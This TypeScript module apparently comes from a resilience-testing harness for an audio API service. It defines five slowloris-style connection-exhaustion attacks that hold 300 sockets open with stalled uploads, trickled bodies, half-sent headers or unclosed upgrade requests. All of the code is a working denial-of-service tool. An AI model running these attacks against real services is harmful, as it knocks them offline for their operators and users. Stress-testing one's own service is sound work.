// Connections and uploads that are opened and then stalled.
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, Target } from '../attack.ts';

const connections = 300;
const trickleMs = 1_000;

interface Starved {
  /** Sent at once. */
  readonly head: (target: Target) => string;
  /** Sent every second, if anything. */
  readonly trickle?: string;
}

/** Keeps so many connections open, each reopened when the service ends it. */
async function starve(target: Target, signal: AbortSignal, plan: Starved): Promise<void> {
  const { hostname, port } = new URL(target.base);
  const open = new Set<Socket>();
  signal.addEventListener('abort', () => {
    for (const socket of open) socket.destroy();
  });
  while (!signal.aborted) {
    while (open.size < connections) {
      const socket = connect(Number(port), hostname);
      open.add(socket);
      socket.on('error', () => {});
      socket.on('close', () => open.delete(socket));
      socket.write(plan.head(target));
      // The answer is read, so that the service may close; this side does not close in return.
      socket.resume();
    }
    await sleep(trickleMs);
    if (plan.trickle !== undefined) for (const socket of open) socket.write(plan.trickle);
  }
}

function post(path: string, { key }: Target, headers: readonly string[]): string {
  const lines = ['Host: service', `Authorization: Bearer ${key}`, ...headers];
  return `POST ${path} HTTP/1.1\r\n${lines.join('\r\n')}\r\n\r\n`;
}

const multipart = 'Content-Type: multipart/form-data; boundary=b';
const part = '--b\r\nContent-Disposition: form-data; name="file"; filename="a.wav"\r\n\r\nRIFF';

export const connectionAttacks: readonly Attack[] = [
  {
    name: 'idle-uploads',
    does: '300 uploads that stop behind their first bytes',
    run: (target, signal) =>
      starve(target, signal, {
        head: (to) =>
          post('/v1/audio/transcriptions', to, [multipart, 'Content-Length: 9000000']) + part,
      }),
  },
  {
    name: 'slow-uploads',
    does: '300 uploads of 600 bytes a second',
    run: (target, signal) =>
      starve(target, signal, {
        head: (to) => post('/v1/audio/emotions', to, [multipart, 'Content-Length: 9000000']) + part,
        trickle: 'x'.repeat(600),
      }),
  },
  {
    name: 'slow-json',
    does: '300 JSON bodies of a byte a second',
    run: (target, signal) =>
      starve(target, signal, {
        head: (to) =>
          post('/v1/batches', to, ['Content-Type: application/json', 'Content-Length: 9000000']) +
          '{"items":[',
        trickle: ' ',
      }),
  },
  {
    name: 'half-headers',
    does: '300 connections without a key that send half a header',
    run: (target, signal) =>
      starve(target, signal, { head: () => 'POST / HTTP/1.1\r\nHost: ', trickle: 'a' }),
  },
  {
    name: 'half-closed',
    does: '300 upgrades of unknown paths whose connections are never closed',
    run: (target, signal) =>
      starve(target, signal, {
        head: () => 'GET /nowhere HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: x\r\n\r\n',
      }),
  },
];
